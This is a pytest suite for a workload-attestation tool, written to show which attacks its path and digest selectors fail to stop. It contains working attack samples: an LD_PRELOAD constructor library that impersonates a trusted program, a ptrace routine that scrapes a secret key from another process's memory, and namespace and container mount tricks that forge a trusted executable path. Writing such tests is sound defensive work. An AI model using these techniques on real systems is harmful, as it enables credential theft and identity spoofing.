"""What `unix:path` and `unix:sha256` do not stop. In each of these the attack succeeds: the selectors are those of the
trusted program, and the code that runs, or has the key, is another user's process's no less than the attacker's own.

That is why they count only beside a fact that another user cannot have (`has_party_boundary`), and why each party needs
a user, a unit or a container of its own.
"""

from __future__ import annotations

import asyncio
import hashlib
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from inborn._internal.process.pinning import pin_pid
from inborn._internal.selectors.selector import parse_selector
from inborn._internal.selectors.trust import has_party_boundary
from inborn_agent.attest import EngineClient
from inborn_agent.attest.container.attestor import attest_container
from inborn_agent.attest.unix.attestor import attest_unix
from tests.inborn_agent.relay.fixtures_relay import RelayRig, caller, line_of, tell
from tests.rigs.fixtures_docker import DockerEngine
from tests.rigs.fixtures_up import Machine, spiffe_id
from tests.rigs.up_rig import environment

SLEEP = os.path.realpath(shutil.which("sleep") or "/bin/sleep")
SH = os.path.realpath(shutil.which("sh") or "/bin/sh")
NOBODY = 65534


def program_of(path: str) -> set[str]:
    """The selectors that a program has by which file it is."""
    return {f"unix:path:{path}", f"unix:sha256:{hashlib.sha256(Path(path).read_bytes()).hexdigest()}"}


def found_of(pid: int) -> set[str]:
    with pin_pid(pid) as process:
        return {str(selector) for selector in attest_unix(process).selectors}


def test_path_and_digest_draw_no_line_between_parties() -> None:
    assert not has_party_boundary(map(parse_selector, program_of(SLEEP)))


# Runs before the program's own first line, in every program that is started with it.
EVIL = r"""
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>
static void __attribute__((constructor)) evil(void) {
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    char hello[33] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4", asked[26];
    char answer[26] = "\0\0\10\6\1\0\0\0\0........\0\0\0\4\1";
    int s = socket(AF_UNIX, SOCK_STREAM, 0), got = 0;
    strncpy(to.sun_path, getenv("EVIL_SOCKET"), sizeof to.sun_path - 1);
    if (connect(s, (struct sockaddr *)&to, sizeof to) || write(s, hello, 33) != 33) _exit(1);
    while (got < 26) { int n = read(s, asked + got, 26 - got); if (n <= 0) _exit(2); got += n; }
    memcpy(answer + 9, asked + 18, 8);
    if (write(s, answer, 26) != 26) _exit(3);
    pause();
}
"""


@pytest.mark.needs("gcc")
async def test_ld_preload(relay_rig: RelayRig, callers: list[subprocess.Popen[str]], tmp_path: Path) -> None:
    """A library that is loaded into the trusted program asks in its name, and is given what that one may have."""
    (tmp_path / "evil.c").write_text(EVIL)
    library = tmp_path / "evil.so"
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", library, tmp_path / "evil.c"], check=True)
    preloaded = {"LD_PRELOAD": str(library), "EVIL_SOCKET": str(relay_rig.path)}
    evil = subprocess.Popen([SLEEP, "600"], env=os.environ | preloaded, text=True)
    callers.append(evil)
    connection = await relay_rig.connection()
    assert connection.process.pid == evil.pid
    assert program_of(SLEEP) <= {str(selector) for selector in connection.evidence.selectors}


async def test_interpreter(relay_rig: RelayRig, callers: list[subprocess.Popen[str]]) -> None:
    """The program of a script is its interpreter, whatever the script does."""
    for code in ("s = connect(); prove(s); wait_for_end(s)", "evil = 1; s = connect(); prove(s); wait_for_end(s)"):
        callers.append(caller(code, relay_rig.path))
        connection = await relay_rig.connection()
        found = {str(selector) for selector in connection.evidence.selectors}
        assert program_of(os.path.realpath(sys.executable)) <= found


TRACER = r"""
import re, subprocess
victim = subprocess.Popen(["SH", "-c", "read KEY < $1; echo has it; read never < $1", "sh", sys.argv[1]],
                          stdout=subprocess.PIPE, text=True)
say(str(victim.pid))
victim.stdout.readline()
libc = ctypes.CDLL(None, use_errno=True)
assert libc.ptrace(16, victim.pid, None, None) == 0, os.strerror(ctypes.get_errno())
os.waitpid(victim.pid, 0)
with open(f"/proc/{victim.pid}/maps") as maps, open(f"/proc/{victim.pid}/mem", "rb") as memory:
    for line in maps:
        begin, end = (int(part, 16) for part in line.split()[0].split("-"))
        if " rw" in line and end - begin < 1 << 24:
            memory.seek(begin)
            if found := re.search(rb"SECRET-[0-9a-f]{16}", memory.read(end - begin)):
                say(found[0].decode())
                break
    else:
        say("nothing")
libc.ptrace(17, victim.pid, None, None)
wait_for_line()
victim.kill()
"""


async def test_ptrace_by_the_same_user(callers: list[subprocess.Popen[str]], tmp_path: Path) -> None:
    """The trusted program is given a key, and another process of its user reads it in its memory.

    The tracer has started it, so that this goes where processes may trace their own children only (Yama) as well.
    """
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    secret = f"SECRET-{os.urandom(8).hex()}"
    callers.append(caller(TRACER.replace("SH", SH), pipe))
    victim = int(await line_of(callers[0]))
    with pipe.open("w") as writer:
        writer.write(f"{secret}\n")
        writer.flush()
        assert await line_of(callers[0]) == secret
        assert program_of(SH) <= found_of(victim)
    tell(callers[0])


async def test_inborn_exec(machine: Machine) -> None:
    """The identity is the one of `inborn`, which hands it to whatever program its user names."""
    interpreter = os.path.realpath(sys.executable)
    machine.entry("/trusted", selectors=sorted({f"unix:uid:{os.geteuid()}", *program_of(interpreter)}))
    command = ["exec", "--data-dir", str(machine.data_dir), "--", SH, "-c", "cat $INBORN_KEY_FILE; echo $SPIFFE_ID"]
    done = await asyncio.to_thread(
        subprocess.run,
        [sys.executable, "-m", "inborn_cli", *command],
        env=environment(),
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    assert "PRIVATE KEY" in done.stdout, done.stderr
    (row,) = (row for row in machine.ledger().values() if row.spiffe_id == spiffe_id("/trusted"))
    assert f"unix:path:{interpreter}" in row.selectors
    assert f"unix:path:{SH}" not in row.selectors


def test_a_program_of_ones_own_under_a_trusted_path_in_mounts_of_ones_own(
    callers: list[subprocess.Popen[str]], tmp_path: Path
) -> None:
    """The path is the one that the process itself sees; in a mount namespace of its own it is whatever it likes.

    The digest is that of the file that runs: this one is stopped by it.
    """
    forged = tmp_path / "forged"
    shutil.copyfile(SLEEP, forged)
    with forged.open("ab") as file:
        file.write(b"evil")
    forged.chmod(0o755)
    code = f"""
libc = ctypes.CDLL(None)
uid, gid = os.geteuid(), os.getegid()
assert libc.unshare(0x10000000 | 0x20000) == 0
for name, text in (("setgroups", "deny"), ("uid_map", f"0 {{uid}} 1"), ("gid_map", f"0 {{gid}} 1")):
    with open(f"/proc/self/{{name}}", "w") as file:
        file.write(text)
assert libc.mount({str(forged)!r}.encode(), {SLEEP!r}.encode(), None, 4096, None) == 0
r, w = os.pipe()
if os.fork() == 0:
    os.close(w)
    os.read(r, 1)
    say("exec done")
    os._exit(0)
os.execv({SLEEP!r}, ["sleep", "600"])
"""
    callers.append(caller(code, "-"))
    assert callers[0].stdout is not None
    assert callers[0].stdout.readline() == "exec done\n"
    found = found_of(callers[0].pid)
    assert f"unix:path:{SLEEP}" in found
    assert not program_of(SLEEP) <= found


@pytest.mark.docker
@pytest.mark.root
def test_digest_of_an_image_does_not_say_what_runs_in_it(
    docker_engine: DockerEngine, docker_image: str, tmp_path: Path
) -> None:
    """Whoever may start containers starts that very image with a file of his own mounted over the program.

    The digest of the executable tells: an entry for a container that others may start needs both.
    """
    client = EngineClient(docker_engine.socket)
    found = []
    busybox = shutil.which("busybox")
    assert busybox is not None
    forged = tmp_path / "busybox"
    shutil.copyfile(busybox, forged)
    with forged.open("ab") as file:
        file.write(b"evil")
    forged.chmod(0o755)
    for options in ((), ("--volume", f"{forged}:/bin/busybox")):
        id_ = docker_engine.start(docker_image, options=options)
        with pin_pid(docker_engine.pid(id_)) as process:
            docker = {str(selector) for selector in attest_container(process, client).selectors}
            unix = {str(selector) for selector in attest_unix(process).selectors}
        found.append((docker, {one for one in unix if "path" in one}, {one for one in unix if "sha256" in one}))
        docker_engine.remove(id_)
    (docker, path, digest), (evil_docker, evil_path, evil_digest) = found
    assert (docker, path) == (evil_docker, evil_path)
    assert digest != evil_digest
